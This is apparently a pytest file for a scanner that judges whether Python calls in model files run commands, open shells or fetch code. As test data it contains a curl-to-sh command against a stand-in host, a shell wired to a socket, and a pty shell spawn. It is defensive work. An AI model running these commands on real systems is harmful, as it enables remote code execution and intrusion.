from __future__ import annotations

import pytest

from modelward.formats.python_calls import Phase, is_decoder, is_network, is_sink, judge, normal
from modelward.formats.python_values import Value, constant


@pytest.mark.parametrize(
    ("phase", "expected"),
    [
        (Phase.IMPORTED, ("runs a command", True)),
        (Phase.LOADED, ("runs a command", True)),
        (Phase.CALLED, None),
    ],
)
def test_when_a_command_counts(phase: Phase, expected: tuple[str, bool] | None) -> None:
    assert judge("os.system", [constant("id")], {}, phase) == expected


def test_what_harms_counts_always() -> None:
    command = constant(["bash", "-c", "curl http://evil.tld/x | sh"])
    assert judge("subprocess.run", [command], {}, Phase.CALLED) == ("downloads a program and runs it", True)
    assert judge(
        "subprocess.Popen", [constant(["/bin/sh"])], {"stdin": Value("socket.socket()")}, Phase.CALLED
    )


def test_housekeeping_does_not_count() -> None:
    assert judge("subprocess.run", [constant(["git", "describe"])], {}, Phase.IMPORTED) is None
    assert judge("os.path.join", [constant("a")], {}, Phase.IMPORTED) is None


def test_names() -> None:
    assert normal("posix.system") == "os.system"
    assert is_sink("subprocess.Popen")
    assert not is_sink("os.getcwd")
    assert is_network("requests.post")
    assert not is_network("requests.exceptions.HTTPError")
    assert is_decoder("base64.b64decode")
    assert Phase.LOADED.words == "when the model is loaded or used"


def test_machine_code_in_a_function_that_nobody_calls_is_no_proof() -> None:
    code = [
        judge("ctypes.windll.kernel32.VirtualAlloc", [], {}, phase) for phase in (Phase.LOADED, Phase.CALLED)
    ]
    assert [found and found[1] for found in code] == [True, False]


def test_shell_of_a_terminal_is_an_attack() -> None:
    assert judge("pty.spawn", [constant("/bin/sh")], {}, Phase.IMPORTED) == ("runs a command", True)
